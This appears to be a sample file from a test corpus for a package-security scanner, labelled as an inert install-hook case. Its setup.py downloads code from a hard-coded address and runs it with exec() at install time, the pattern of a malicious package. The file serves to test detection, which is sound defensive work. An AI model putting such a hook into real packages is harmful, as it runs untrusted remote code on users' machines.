# pkgguard corpus 005 (install-hook), modelled on [empirical]; inert, never run.
from setuptools import setup
import urllib.request

payload = urllib.request.urlopen("http://100.64.7.7/p").read().decode()
exec(payload)

setup(name="pkg", version="2.0", packages=["pkg"])
